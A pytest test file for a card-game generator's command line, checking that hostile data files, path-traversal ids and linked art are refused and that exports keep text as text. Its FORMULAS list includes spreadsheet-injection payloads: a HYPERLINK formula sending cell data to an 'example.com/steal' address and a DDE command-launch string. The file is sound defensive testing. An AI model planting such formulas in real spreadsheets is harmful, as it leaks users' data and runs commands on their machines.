"""Hostile input (issue 16): every malformed or hostile sheet, manifest and folder of the corpus
in `tests/hostile/` is refused by the `cardgen` command in exactly one readable line naming the
file, row and column, with no traceback; nothing is written outside the output folder, the
previous output stays as it was, and exported or typeset text from the data stays text.
"""

from __future__ import annotations

import json
import re
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from cardgen.cli import main
from cardgen.data.database import load_game, load_game_or_raise
from cardgen.data.export import export_game
from cardgen.data.project import REPO_ROOT
from cardgen.rules.book import GameBook
from cardgen.rules.markup import parse

from .conftest import MANIFEST, write_game
from .hostile.sheets import (
    CELL_CASES,
    FOLDER_CASES,
    FORMATS,
    HEADER_CASES,
    MANIFEST_CASES,
    PNG,
    UNIT_FIELDS,
    CellCase,
    FolderCase,
    HeaderCase,
    ManifestCase,
    header_location,
    write_cell_case,
    write_folder_case,
    write_header_case,
    write_manifest_case,
    write_units,
)

LONGEST_LINE = 300
SUMMARY = re.compile(r"^\S+: (\d+ problem\(s\)|not built, fix the data first)$")


def run(*args: object) -> Result:
    """The command as a designer types it; a crash would raise here, failing the test."""
    started = time.monotonic()
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    assert time.monotonic() - started < 60, f"cardgen {args[0]} took too long"
    return result


def refused_in_one_line(result: Result, where: str, expect: str) -> str:
    """Exit code 1 and exactly one problem line, starting with `where`, saying `expect`."""
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    problems = [line for line in lines if not SUMMARY.match(line) and ": warning: " not in line]
    assert len(problems) == 1, problems
    line = problems[0]
    assert line.startswith(where + ": "), line
    assert expect in line, line
    assert len(line) < LONGEST_LINE, f"{len(line)} characters: {line[:400]}"
    return line


def files_under(root: Path) -> dict[str, bytes | None]:
    return {
        p.relative_to(root).as_posix(): (p.read_bytes() if p.is_file() else None)
        for p in sorted(root.rglob("*"))
        if not p.is_symlink()
    }


# --- the corpus, through `cardgen validate` --------------------------------------------------


CELLS = [(case, fmt) for case in CELL_CASES for fmt in FORMATS if fmt in case.formats]
HEADERS = [(case, fmt) for case in HEADER_CASES for fmt in FORMATS]


def test_the_corpus_is_large():
    sheets = len(CELLS) + len(HEADERS)
    assert sheets + len(MANIFEST_CASES) + len(FOLDER_CASES) >= 200
    assert {fmt for _, fmt in CELLS} == set(FORMATS)


@pytest.mark.parametrize(("case", "fmt"), CELLS, ids=[f"{f}-{c.name}" for c, f in CELLS])
def test_a_hostile_cell_is_one_line_naming_it(tmp_path: Path, case: CellCase, fmt: str):
    folder = write_cell_case(tmp_path, case, fmt)
    refused_in_one_line(run("validate", folder.name), case.where(fmt), case.expect)


@pytest.mark.parametrize(("case", "fmt"), HEADERS, ids=[f"{f}-{c.name}" for c, f in HEADERS])
def test_a_hostile_column_name_is_one_line(tmp_path: Path, case: HeaderCase, fmt: str):
    folder = write_header_case(tmp_path, case, fmt)
    refused_in_one_line(run("validate", folder.name), header_location(case, fmt), case.expect)


@pytest.mark.parametrize("case", MANIFEST_CASES, ids=[c.name for c in MANIFEST_CASES])
def test_a_hostile_manifest_is_one_line(tmp_path: Path, case: ManifestCase):
    folder = write_manifest_case(tmp_path, case)
    refused_in_one_line(run("validate", folder.name), "g/manifest.json", case.expect)


@pytest.mark.parametrize("case", FOLDER_CASES, ids=[c.name for c in FOLDER_CASES])
def test_art_that_leads_out_of_the_game_is_refused(tmp_path: Path, case: FolderCase):
    folder = write_folder_case(tmp_path, case)
    where = f"g/units.csv:4:{chr(ord('A') + UNIT_FIELDS.index('art'))}"
    refused_in_one_line(run("validate", folder.name), where, case.expect)


# --- 1. confinement: builds and exports ------------------------------------------------------


def build(folder: Path) -> Result:
    return run("build", folder.name, "--out", "out", "--no-png", "--no-tts")


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_id_climbing_out_builds_nothing_anywhere(tmp_path: Path, fmt: str):
    folder = write_game(tmp_path / "g")
    assert build(folder).exit_code == 0
    kit = files_under(tmp_path / "out")
    case = next(c for c in CELL_CASES if c.name == "id traversal")
    write_cell_case(tmp_path, case, fmt)
    before = files_under(tmp_path)
    refused_in_one_line(build(folder), case.where(fmt), "is not a valid id")
    assert files_under(tmp_path) == before  # nothing new, anywhere under the test's folder
    assert files_under(tmp_path / "out") == kit  # the previous kit as it was
    assert not list(REPO_ROOT.glob("pwn*")) and not list(tmp_path.parent.glob("pwn*"))


def test_linked_art_is_neither_built_nor_exported(tmp_path: Path):
    case = next(c for c in FOLDER_CASES if c.name == "art linked out")
    folder = write_folder_case(tmp_path, case)
    refused_in_one_line(build(folder), "g/units.csv:4:O", "leads outside the game's folder")
    assert not (tmp_path / "out").exists()
    result = run("export", folder.name, "--format", "csv", "--out", "exported")
    refused_in_one_line(result, "g/units.csv:4:O", "leads outside the game's folder")
    assert not (tmp_path / "exported").exists()


def test_an_export_never_follows_a_link_out_even_when_asked_directly(tmp_path: Path):
    """`export_game` is also a library call: given a game loaded in spite of its errors, it
    copies the art that lies inside the folder and leaves a link to elsewhere behind."""
    case = next(c for c in FOLDER_CASES if c.name == "art folder linked out")
    folder = write_folder_case(tmp_path, case)
    (folder / "mine.png").write_bytes(PNG)
    bat = {"id": "bat", "name": "Bat", "cost": "1", "colour": "blue", "quantity": "1"}
    write_units(folder, "csv", [{**bat, "art": case.art}, {**bat, "id": "cat", "art": "mine.png"}],
                UNIT_FIELDS)  # fmt: skip
    game, problems = load_game(folder)
    assert game is not None and any("leads outside" in str(p) for p in problems)
    export_game(game, "csv", tmp_path / "exported")
    assert (tmp_path / "exported" / "mine.png").read_bytes() == PNG
    assert not (tmp_path / "exported" / "art").exists()


def test_art_linked_inside_the_game_is_fine(tmp_path: Path):
    folder = write_game(tmp_path / "g")
    (folder / "art").mkdir()
    (folder / "art" / "real.png").write_bytes(PNG)
    (folder / "art" / "bat.png").symlink_to("real.png")
    write_units(folder, "csv", [{"id": "bat", "name": "Bat", "cost": "1", "colour": "blue",
                                 "art": "art/bat.png", "quantity": "1"}], UNIT_FIELDS)  # fmt: skip
    game = load_game_or_raise(folder)
    export_game(game, "csv", tmp_path / "exported")
    copied = tmp_path / "exported" / "art" / "bat.png"
    assert copied.read_bytes() == PNG and not copied.is_symlink()


# --- 5. injection: an XLSX export keeps text as text ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "==",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_text_cell_is_exported_as_text_and_comes_back(tmp_path: Path, text: str):
    folder = write_game(tmp_path / "g")
    write_units(folder, "csv", [{"id": "bat", "name": "Bat", "cost": "1", "colour": "blue",
                                 "text": text, "serial": text, "quantity": "1"}],
                UNIT_FIELDS)  # fmt: skip
    game = load_game_or_raise(folder)
    result = run("export", "g", "--format", "xlsx", "--out", "xlsx")
    assert result.exit_code == 0, result.output
    book = tmp_path / "xlsx" / "testgame.xlsx"
    with zipfile.ZipFile(book) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)  # no live formula
    again = load_game_or_raise(tmp_path / "xlsx")
    assert again.cards == game.cards  # the lossless round trip holds
    assert again.by_id("bat")["text"] == text.strip()


def test_text_too_long_for_an_xlsx_cell_is_refused_and_the_old_export_kept(tmp_path: Path):
    """An XLSX cell holds 32,767 characters and readers cut the rest: refused, not truncated."""
    folder = write_game(tmp_path / "g")
    assert run("export", "g", "--format", "xlsx", "--out", "xlsx").exit_code == 0
    before = files_under(tmp_path / "xlsx")
    bat = {"id": "bat", "name": "Bat", "cost": "1", "colour": "blue", "quantity": "1"}
    write_units(folder, "csv", [{**bat, "text": "word " * 20_000}], UNIT_FIELDS)
    result = run("export", "g", "--format", "xlsx", "--out", "xlsx")
    assert result.exit_code == 1 and result.stderr.strip() == (
        "xlsx: bat text is 99999 characters; an XLSX cell holds 32767 (export as csv or json "
        "instead)"
    )
    assert files_under(tmp_path / "xlsx") == before
    assert run("export", "g", "--format", "csv", "--out", "csv").exit_code == 0
    assert load_game_or_raise(tmp_path / "csv").cards == load_game_or_raise(folder).cards


# --- 2, 5. the rulebook: data stays text, tangled markers are one line ---------------------------

CLARIFICATION_TYPE = {
    "id": "clarification",
    "sheet": "clarifications",
    "kind": "reference",
    "fields": [
        {"name": "id", "type": "id", "required": True},
        {"name": "topic", "type": "text"},
        {"name": "question", "type": "text"},
        {"name": "decision", "type": "text"},
    ],
}
RULES = """# {{ game.name }}
## Rules
{{ clarification('c1') }}

Said plainly: {{ clarification('c1') }}

| Topic | Decision |
|---|---|
{% for c in clarifications %}| {{ c.topic }} | {{ c.decision }} |
{% endfor %}

- {{ card('wolf').text }}

:::clarifications
"""
INJECTIONS = [
    "fine\n# HEADING",
    "# HEADING",
    "  # HEADING",
    ":::toc",
    "fine\n:::pagebreak",
    "| a | b |",
    "a | b",
    "- a list",
    "1. a step",
    "> an example",
    "**a *b** c*",
    "*a **b* c**",
    "end \\",
    "back\\slash \\# \\\\",
    "fine\u2028# HEADING",
    "fine\r\n\r\n## SECTION",
]


def own_templates(root: Path) -> Path:
    """The test game's own folder in `root`/templates, made on the first call beside the
    shipped base templates and icons."""
    templates = root / "templates"
    if not templates.exists():
        shutil.copytree(REPO_ROOT / "templates" / "base", templates / "base")
        shutil.copy(REPO_ROOT / "templates" / "icons.json", templates / "icons.json")
        (templates / "testgame").mkdir()
    return templates / "testgame"


def rulebook_game(root: Path, decision: str, rules: str = RULES) -> Path:
    manifest = json.loads(json.dumps(MANIFEST))
    manifest["types"].append(CLARIFICATION_TYPE)
    sheet = json.dumps([{"id": "c1", "topic": decision, "question": "Q?", "decision": decision}])
    folder = write_game(root / "card_data" / "testgame", {"clarifications.json": sheet},
                        manifest=manifest)  # fmt: skip
    game = own_templates(root)
    (game / "rules.md").write_text(rules, encoding="utf-8")
    (game / "reference.md").write_text("# Reference\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize("decision", INJECTIONS)
def test_text_from_the_data_never_becomes_rulebook_markup(tmp_path: Path, decision: str):
    game = load_game_or_raise(rulebook_game(tmp_path, decision))
    blocks = parse(GameBook(game).render_text("rules.md"))
    assert [(b.kind, b.text) for b in blocks if b.kind in ("heading", "directive")] == [
        ("heading", "Test Game"),
        ("heading", "Rules"),
        ("directive", "clarifications"),
    ]
    table = next(b for b in blocks if b.kind == "table")
    assert all(len(row) == 2 for row in table.rows)  # a | in the data splits no cell
    shown = " ".join(decision.split()).replace("*", "\u2217")
    assert shown in next(b for b in blocks if b.kind == "paragraph").text
    assert table.rows[1] == [shown, shown]


@pytest.mark.slow
def test_a_rulebook_with_hostile_data_builds(tmp_path: Path):
    rulebook_game(tmp_path, "**a *b** c*\n# HEADING\n:::toc | x |")
    result = run("rules", "testgame", "--data", tmp_path / "card_data", "--out", "out")
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "markup", ["**a *b** c*", "*a **b* c**", "- **open *close** end*", "| **a *b** c* | d |"]
)
def test_tangled_bold_and_italic_in_a_template_is_one_line(tmp_path: Path, markup: str):
    rulebook_game(tmp_path, "fine", rules="# Title\n\nfine\n")
    assert run("rules", "testgame", "--data", tmp_path / "card_data", "--out", "out").exit_code == 0
    before = files_under(tmp_path / "out")
    rulebook_game(tmp_path, "fine", rules=f"# Title\n\nfine\n\n{markup}\n")
    result = run("rules", "testgame", "--data", tmp_path / "card_data", "--out", "out")
    assert result.exit_code == 1
    line = result.stderr.strip()
    assert "\n" not in line and len(line) < LONGEST_LINE, line
    assert "templates/testgame/rules.md: line 5: bold (**) and italic (*) markers overlap" in line
    assert files_under(tmp_path / "out") == before  # the previous rulebook kept
